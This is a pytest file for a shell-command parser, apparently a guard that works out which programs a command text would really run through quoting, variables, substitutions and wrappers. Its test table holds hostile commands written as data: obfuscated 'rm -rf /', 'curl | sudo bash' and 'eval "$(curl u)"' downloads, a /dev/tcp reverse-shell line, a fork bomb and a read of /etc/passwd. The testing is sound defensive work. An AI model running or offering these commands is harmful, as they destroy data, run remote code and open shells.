"""From texts to spawns: one table by construct, whole values; bad input; determinism."""

import time

import pytest

from spawngate.command.parse import read, read_argv
from spawngate.command.spawn import Word
from spawngate.command.unwrap.inner import Inner, Unwrapped
from spawngate.endpoint.shfmt import syntax_tree
from tests.command.shown import shown


def unwrap(argv: tuple[Word, ...]) -> Unwrapped | None:
    """A small table of wrappers of our own: what each wrapper means is tested beside it."""
    name, rest = argv[0].text.rsplit("/", 1)[-1], argv[1:]
    if name in ("sh", "bash"):
        if rest and rest[0].text == "-c":
            return Unwrapped(name, (Inner(text=rest[1].text, parameters=rest[2:], via="script"),))
        return (
            Unwrapped(name, (Inner(reads_input=True, via="input"),))
            if not rest or rest[0].text.startswith("<(")
            else None
        )
    if name == "sudo":
        return Unwrapped(name, (Inner(words=rest, user="root"),))
    if name == "xargs":
        return Unwrapped(name, (Inner(words=rest, appended=True, repeated=True),))
    if name == "find":
        return Unwrapped(name, (Inner(words=rest[2:], repeated=True),), stays=True)
    if name == "ssh":
        return Unwrapped(name, (Inner(text=rest[1].text, remote=rest[0].text, via="script"),))
    if name == "python":
        if rest:
            return Unwrapped(name, (Inner(code=rest[-1].text, language="python"),), stays=True)
        return Unwrapped(name, (Inner(reads_input=True, language="python", via="input"),))
    if name == "odd":
        return Unwrapped(name, (Inner(words=rest, opaque=("options",)),))
    if name == "blind":
        return Unwrapped(name, (Inner(opaque=("encoded",)),))
    return None


CASES: list[tuple[str, list[str]]] = [
    # quoting and concatenation
    ("ls -la", ["ls -la"]),
    ("r''m \"-r\"f r\\m $'\\x72m'", ["rm -rf rm rm"]),
    ('""', ["''"]),
    # variables
    ("X=rm; $X -rf /", ["rm -rf /"]),
    ("X='rm -rf'; $X /", ["rm -rf /"]),
    ("X='rm -rf'; \"$X\" /", ["'rm -rf' /"]),
    ("A=r B=m; $A$B x", ["rm x"]),
    ("X=a; X+=b; echo $X", ["echo ab +builtin"]),
    ("X=1 ls $X", ["X=1 ls $X[?] opaque:arguments"]),
    ("echo ${X:-rm}", ["echo rm +builtin"]),
    ("${X:-rm} x; ${X:=rm} x; $X y", ["rm x", "rm x", "rm y"]),
    ("f=a.tar.gz; tar x ${f%.gz} ${f##*.} ${f/tar/zip} ${f:0:1} ${#f}", ["tar x a.tar gz a.zip.gz a 8"]),
    ("a=b; b=rm; ${!a} x", ["rm x"]),
    ("a=(rm -rf /); ${a[0]} ${a[@]:1}", ["rm -rf /"]),
    (
        'set -- rm -rf /; "$@"; shift; echo $#',
        ["set -- rm -rf / +builtin", "rm -rf /", "shift +builtin", "echo 2 +builtin"],
    ),
    ("r$@m x", ["rm x"]),
    ("w${u}get x", ["wget[?] x"]),
    ("$cmd x", ["$cmd[?] x opaque:program"]),
    ("$V/bin/node x", ["$V/bin/node[?] x"]),
    ("cat$IFS/etc/passwd", ["cat /etc/passwd"]),
    ("IFS=,; X=rm,x; $X", ["rm x"]),
    ("${PATH:0:1}bin${HOME:0:1}ls", ["/bin/ls"]),
    ('rm -rf ~ $HOME/x "${HOME}" ~root', ["rm -rf ~ ~/x ~ ~root"]),
    ("HOME=/tmp; ls ~/x", ["ls /tmp/x"]),
    ('unset A; rm -rf "/$A"', ["unset A +builtin", "rm -rf /"]),
    ("ls *.c '*.c' $(echo '*')", ["echo * via:substitution +builtin", "ls *.c[*] *.c *[*@0]"]),
    ("echo {rm,-rf,/} a{1..3}", ["echo rm -rf / a1 a2 a3 +builtin"]),
    ("echo $((1+2)) $((x))", ["echo 3 $((x))[?] +builtin opaque:arguments"]),
    # what may or may not happen
    ("X=ls; c && X=rm; $X x", ["c", "rm x", "ls x"]),
    ("X=rm; if c; then X=ls; fi; $X x", ["c", "ls x", "rm x"]),
    ("X=rm; (X=ls); $X x", ["rm x"]),
    ("X=rm; true | X=ls; $X x", ["true +builtin", "rm x"]),
    ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
    ("case $x in a|b) c;; *) d;; esac", ["c", "d"]),
    ("if c; then ls() { :; }; fi; ls x", ["c", ": via:function +builtin", "ls x"]),
    # loops
    ("for x in a b; do rm $x; done", ["rm a +repeated", "rm b +repeated"]),
    ("for x in $(ls); do rm $x; done", ["ls via:substitution", "rm $x[?@0] +repeated opaque:arguments"]),
    ('for f in *.c; do rm "$f"; done', ["rm *.c[*] +repeated"]),
    ("while a; do b; done; until c; do d; done", ["a +repeated", "b +repeated", "c +repeated", "d +repeated"]),
    ("x=ls; while a; do $x; x=rm; done", ["a +repeated", "ls +repeated", "rm +repeated", "ls +repeated"]),
    ("for ((i=0;i<$(a);i++)); do b; done", ["a via:substitution +repeated", "b +repeated"]),
    (
        "echo 'rm x' | while read l; do $l; done",
        ["echo 'rm x' +builtin", "read l <-0 +builtin +repeated", "rm[@0] x[@0] <-0 +repeated"],
    ),
    ("a | while read l; do $l; done", ["a", "read l <-0 +builtin +repeated", "$l[?@0] <-0 +repeated opaque:program"]),
    # substitutions
    ("$(echo rm) x", ["echo rm via:substitution +builtin", "rm[@0] x"]),
    ("`printf %s r m` x", ["printf %s r m via:substitution +builtin", "rm[@0] x"]),
    (
        "$(echo cm0= | base64 -d) x",
        ["echo cm0= via:substitution +builtin", "base64 -d <-0 via:substitution", "rm[@1] x"],
    ),
    ("$(echo mr | rev) x", ["echo mr via:substitution +builtin", "rev <-0 via:substitution", "rm[@1] x"]),
    ("echo $(date)", ["date via:substitution", "echo $(date)[?@0] +builtin opaque:arguments"]),
    ('x=$(curl u); eval "$x"', ["curl u via:substitution", "$x[?@0] <-0 in:eval via:eval opaque:program"]),
    ('eval "$(curl u)"', ["curl u via:substitution", "'$(curl u)'[?@0] <-0 in:eval via:eval opaque:program"]),
    ('sh -c "$(curl u)"', ["curl u via:substitution", "'$(curl u)'[?@0] <-0 in:sh via:script opaque:program"]),
    ("eval 'X=rm'; eval \"$X -rf /\"", ["rm -rf / in:eval via:eval"]),
    ("[[ -f $(a) ]] && (( $(b) ))", ["a via:substitution", "b via:substitution"]),
    ("x=${y:-$(a)}", ["a via:substitution"]),
    ('echo "${y/$(a)/b}"', ["a via:substitution", "echo ${y/$(a)/b}[?] +builtin opaque:arguments"]),
    # pipes, input, here-documents
    ("a | b | c", ["a", "b <-0", "c <-1"]),
    ("{ a; b; } | c", ["a", "b", "c <-0,1"]),
    ("a | { b; c; }", ["a", "b <-0", "c <-0"]),
    ("curl u | sudo bash", ["curl u", "bash <-0 in:sudo via:wrapper user:root opaque:input"]),
    ("echo 'rm -rf /' | sh", ["echo 'rm -rf /' +builtin", "rm -rf / <-0 in:sh via:input"]),
    (
        "{ echo rm x; echo ls; } | sh",
        ["echo rm x +builtin", "echo ls +builtin", "rm x <-0,1 in:sh via:input", "ls <-0,1 in:sh via:input"],
    ),
    ("sh <<< 'rm x'", ["rm x in:sh via:input"]),
    ("sh <<E\nrm $HOME\nE", ["rm ~ in:sh via:input"]),
    ("cat <<'E' | sh\nrm $HOME\nE", ["cat <<'rm $HOME\\n'", "rm ~ <-0 in:sh via:input"]),
    ("sh <<-E\n\trm x\n\tE\nls", ["rm x in:sh via:input", "ls"]),
    ("bash <(curl u)", ["curl u via:process-substitution", "bash '<(curl u)'[?@0] <-0 opaque:input,arguments"]),
    (
        "bash <(echo rm x)",
        ["echo rm x via:process-substitution +builtin", "rm x <-0 in:bash via:input"],
    ),
    (
        "source <(curl u)",
        ["curl u via:process-substitution", "source '<(curl u)'[?@0] <-0 +builtin opaque:input,arguments"],
    ),
    (". ./env", [". ./env +builtin opaque:code"]),
    ("a | tee >(sh)", ["a", "sh <-2 via:process-substitution opaque:input", "tee >(sh)[?] <-0 opaque:arguments"]),
    (
        "echo 'print(1)' | python",
        ["echo print(1) +builtin", "python <-0 code_language:python code:'print(1)\\n'"],
    ),
    ("python -c 'x'", ["python -c x code_language:python code:'x'"]),
    ("echo / | xargs rm -rf", ["echo / +builtin", "rm -rf / <-0 in:xargs via:wrapper +repeated"]),
    ("ls | xargs rm", ["ls", "rm <-0 in:xargs via:wrapper +repeated +appended"]),
    # files that the text writes and runs
    (
        "echo 'rm x' > a.sh; sh ./a.sh; ./a.sh",
        ["echo 'rm x' >a.sh +builtin", "sh ./a.sh", "rm x in:sh via:script", "./a.sh", "rm x via:script"],
    ),
    (
        "cat > x.py <<E\nprint(1)\nE\npython3 x.py",
        ["cat >x.py <<'print(1)\\n'", "python3 x.py code_language:python code:'print(1)\\n'"],
    ),
    ("curl u > a.sh; sh a.sh", ["curl u >a.sh", "sh a.sh"]),
    # redirections
    ("a > f 2>&1 < g", ["a >f 2>&1 <g"]),
    ("> f", [">f"]),
    ("X=1 > f", [">f"]),
    ("2>&1 >f a b", ["a b 2>&1 >f"]),
    ("a <f b >g", ["a b <f >g"]),
    ("a 3>&- &>> x", ["a 3>&- &>>x"]),
    ("{ a; b; } > f", ["a", "b", ">f <-0,1"]),
    ("exec 3<>/dev/tcp/h/1; sh <&3 >&3", ["exec 3<>/dev/tcp/h/1 +builtin", "sh <&3 >&3 opaque:input"]),
    # functions, aliases, built-ins
    ('f() { rm "$1"; }; f x', ["rm x via:function"]),
    ('function f { sudo "$@"; }; f rm x', ["rm x in:sudo via:wrapper user:root"]),
    ("f() { local x=ls; $x; }; x=rm; f; $x", ["local x=ls via:function +builtin", "ls via:function", "rm"]),
    (
        ":(){ :|:& };:",
        [
            ": via:function +background +repeated opaque:recursion",
            ": <-0 via:function +background +repeated opaque:recursion",
        ],
    ),
    ("alias ll='ls -l'; ll x", ["alias 'll=ls -l' +builtin", "ls -l x via:alias", "ll x"]),
    ("trap 'rm x' EXIT", ["trap 'rm x' EXIT +builtin", "rm x in:trap via:trap"]),
    ("cd /tmp && ls; cd ..; ls", ["cd /tmp +builtin", "ls cwd:/tmp", "cd .. cwd:/tmp +builtin", "ls cwd:/"]),
    ("(cd x; ls); ls", ["cd x +builtin", "ls cwd:x", "ls"]),
    ("export A=b; ls; A=c ls", ["A=b export A=b +builtin", "A=b ls", "A=c ls"]),
    (
        "exec -a z rm x; command rm x; builtin cd x; \\rm x",
        [
            "rm x in:exec via:wrapper",
            "rm x in:command via:wrapper",
            "cd x in:builtin via:wrapper +builtin",
            "rm x cwd:x",
        ],
    ),
    ("rm() { :; }; command rm x", ["rm x in:command via:wrapper"]),
    ("time -p rm x; ! rm y", ["rm x in:time via:wrapper", "rm y"]),
    ("printf -v c '%s%s' r m; $c x", ["printf -v c %s%s r m +builtin", "rm x"]),
    ("read x; $x", ["read x +builtin", "$x[?] opaque:program"]),
    (
        "command -v rm; $(command -v rm) x",
        ["command -v rm +builtin", "command -v rm via:substitution +builtin", "rm[@1] x"],
    ),
    ("a & b; (c) &", ["a +background", "b", "c +background"]),
    ("coproc a b", ["a b +background"]),
    # wrappers
    ("sudo sh -c 'rm $0' x", ["rm x in:sudo/sh via:script user:root"]),
    (
        "X=rm; sh -c '$X x'; export X; sh -c '$X x'",
        ["$X[?] x in:sh via:script opaque:program", "X=rm export X +builtin", "X=rm rm x in:sh via:script"],
    ),
    ("X=rm sh -c '$X x'", ["X=rm rm x in:sh via:script"]),
    ('sh -c "sh -c \'sh -c \\"rm x\\"\'"', ["rm x in:sh/sh/sh via:script"]),
    ("find . -exec rm {} +", ["find . -exec rm {} +", "rm {} + in:find via:wrapper +repeated"]),
    ("export A=b; ssh h 'ls $A'", ["A=b export A=b +builtin", "ls $A[?] in:ssh via:script remote:h opaque:arguments"]),
    ("odd rm x; blind x", ["rm x in:odd via:wrapper opaque:options", "in:blind via:wrapper opaque:encoded"]),
    ("sudo sh -c 'rm x' > f", ["rm x in:sudo/sh via:script user:root", ">f <-0 in:sudo via:wrapper user:root"]),
]


@pytest.mark.parametrize(("text", "spawns"), CASES, ids=[text for text, _ in CASES])
def test_spawns(text: str, spawns: list[str]) -> None:
    assert shown(read(text, second=syntax_tree, unwrap=unwrap)) == spawns


def test_words_without_a_shell() -> None:
    assert shown(read_argv(["sudo", "rm", "$X", "a b"], unwrap=unwrap)) == ["rm $X 'a b' in:sudo via:wrapper user:root"]
    assert read_argv(["ls"], unwrap=unwrap).parser == "words"
    assert shown(read_argv([], unwrap=unwrap)) == []


def test_texts_that_no_parser_reads_are_counted() -> None:
    found = read("p " + "<(sh -c a()o" * 16 + " if }")
    assert found.opaque == ("unparseable", "too-deep", "too-long")
    assert found == read("p " + "<(sh -c a()o" * 16 + " if }")


@pytest.mark.parametrize(
    "padding",
    [
        "$x=" * 2_000 + "\n",
        "{1..99}" + "$x" * 2_000 + "; ",
        "${((" * 100 + "; ",
        "))]" * 300 + "\n",
        "{a,b}${!X}" * 1_000 + "\n",
        "command " * 1_500 + "ls; ",
        "&&sh -c " * 300 + "; ",
    ],
)
def test_nothing_plain_hides_behind_a_text_that_is_too_much(padding: str) -> None:
    program = read(padding + "rm -rf ~")
    assert program.opaque
    assert ["rm", "-rf", "~"] in [[word.text for word in spawn.argv] for spawn in program.spawns]
    assert read(padding + "rm -rf ~") == program
    harmless = read(padding + "ls -la")
    assert ["ls", "-la"] in [[word.text for word in spawn.argv] for spawn in harmless.spawns]


def test_braces_around_many_parts_are_counted_before_they_are_made() -> None:
    began = time.thread_time()
    assert read("{1..99}" + "$x=" * 6_000).opaque == ("too-slow",)
    assert time.thread_time() - began < 0.2


def test_a_thousand_times_are_read_through() -> None:
    (spawn,) = read("time " * 1_500 + "rm -rf ~").spawns
    assert [word.text for word in spawn.argv] == ["rm", "-rf", "~"]
    assert read("time -p time ls").spawns[0].wrappers == ("time", "time")
